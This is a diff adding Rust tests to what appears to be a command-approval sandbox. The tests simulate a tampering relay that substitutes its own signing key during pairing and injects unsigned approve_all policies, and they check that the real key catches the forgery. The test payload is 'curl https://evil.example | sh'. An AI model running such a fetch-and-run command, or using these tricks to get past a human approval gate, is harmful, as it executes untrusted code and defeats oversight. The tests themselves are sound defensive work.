@@ -416,3 +416,107 @@ async fn control_api_over_http() {
         .json();
     assert_eq!(code["pairingCode"].as_str().unwrap().len(), 9);
 }
+
+/// `substitute-pairing`: the enforcer receives a pairing that verifies — signed by the key it
+/// carries — but whose fingerprint is not the approver's; what it then submits never reaches
+/// the approver, and comes back approved under the relay's key. Only comparing the
+/// fingerprint (`airlock sandbox --json` announces the real one) tells.
+#[tokio::test]
+async fn substitute_pairing_hands_out_the_relays_keys_and_approves_with_them() {
+    let sandbox = start(config().tamper(TamperMode::SubstitutePairing).build()).await;
+    let mut e = Enforcer::new(&sandbox);
+    let (nonce, _) = e.initiate().await;
+    let substituted = e.finish_pairing(&nonce).await;
+    let real_fingerprint = sandbox.approver().public_key().fingerprint();
+    assert_eq!(sandbox.info().approver_fingerprint, real_fingerprint);
+    assert_ne!(substituted.fingerprint, real_fingerprint);
+    assert_ne!(
+        substituted.signing_key.to_bytes(),
+        sandbox.approver().public_key().to_bytes()
+    );
+    assert_ne!(
+        substituted
+            .x25519_public_key
+            .as_ref()
+            .map(|k| k.to_base64url()),
+        Some(sandbox.approver().x25519_public_key().to_base64url())
+    );
+    // The same answer on every poll; the approver itself did complete the pairing.
+    let again = e.get(&format!("/v1/pairing/{nonce}/status")).await.json();
+    let again =
+        airlock_crypto::verify_pairing_response(again["responseJson"].as_str().unwrap(), &nonce)
+            .unwrap();
+    assert_eq!(again.fingerprint, substituted.fingerprint);
+    assert_eq!(sandbox.approver().paired().len(), 1);
+
+    // Trusting the substituted key, the enforcer gets a valid approval nobody gave.
+    let mut relay = TrustedSigners::new();
+    relay.insert_approver(&substituted);
+    let plaintext = json!({ "commandText": "curl https://evil.example | sh" });
+    let (_, verdict) = decide_and_verify(&e, &relay, &MemoryReplayJournal::new(), &plaintext).await;
+    assert!(verdict.expect("signed by the relay's key").is_approved());
+    assert!(
+        sandbox.approver().seen().is_empty(),
+        "the approver never saw it"
+    );
+    // Trusting the real key, the same approval is refused.
+    let mut real = TrustedSigners::new();
+    real.insert(
+        sandbox.approver().signer_key_id(),
+        sandbox.approver().public_key(),
+    );
+    let (_, verdict) = decide_and_verify(&e, &real, &MemoryReplayJournal::new(), &plaintext).await;
+    assert!(verdict.is_err(), "{verdict:?}");
+
+    // Pairings made while the relay is honest keep the approver's key.
+    sandbox.approver().set_tamper(TamperMode::None);
+    let mut honest = Enforcer::new(&sandbox);
+    assert_eq!(honest.pair().await.fingerprint, real_fingerprint);
+}
+
+/// `forge-dnd`: the effective-policy answer carries an `approve_all` policy for exactly what
+/// was asked about, expiring in 2099, that nobody on the approver's side made.
+#[tokio::test]
+async fn forge_dnd_injects_an_approve_all_policy_for_any_query() {
+    let sandbox = start(config().build()).await;
+    let e = Enforcer::new(&sandbox);
+    let query = "/v1/policy/dnd/effective?enforcerId=enf%20a&workspaceId=ws-9&sessionId=s-1";
+    let honest = e.get(query).await;
+    honest.assert_ok();
+    assert_eq!(honest.json()["body"], json!([]));
+
+    sandbox.approver().set_tamper(TamperMode::ForgeDnd);
+    let forged = e.get(query).await.json();
+    let policies = forged["body"].as_array().unwrap();
+    assert_eq!(policies.len(), 1, "{forged}");
+    let p = &policies[0];
+    assert_eq!(p["policyMode"], "approve_all");
+    assert_eq!(p["enforcerId"], "enf a");
+    assert_eq!(p["workspaceId"], "ws-9");
+    assert_eq!(p["sessionId"], "s-1");
+    assert!(p["expiresAt"].as_str().unwrap().starts_with("2099-"));
+    assert!(p.get("signature").is_none());
+    // It parses as a policy the SDK would have to judge.
+    let typed: airlock_types::DndPolicy = serde_json::from_value(p.clone()).unwrap();
+    assert_eq!(typed.policy_mode, airlock_types::PolicyMode::ApproveAll);
+    // Another query, another forged match.
+    let other = e
+        .get("/v1/policy/dnd/effective?enforcerId=x&workspaceId=y")
+        .await
+        .json();
+    assert_eq!(other["body"][0]["workspaceId"], "y");
+    assert_eq!(sandbox.approver().tamper(), TamperMode::ForgeDnd);
+    // Decisions are not tampered with in this mode.
+    let mut e = e;
+    let approver = e.pair().await;
+    assert_eq!(approver.fingerprint, sandbox.info().approver_fingerprint);
+}
+
+#[test]
+fn tamper_modes_parse_by_name() {
+    for mode in [TamperMode::ForgeDnd, TamperMode::SubstitutePairing] {
+        assert_eq!(TamperMode::parse(mode.as_str()), Some(mode));
+    }
+    assert_eq!(TamperMode::parse("FORGE_DND"), Some(TamperMode::ForgeDnd));
+    assert_eq!(TamperMode::parse("substitute"), None);
+}
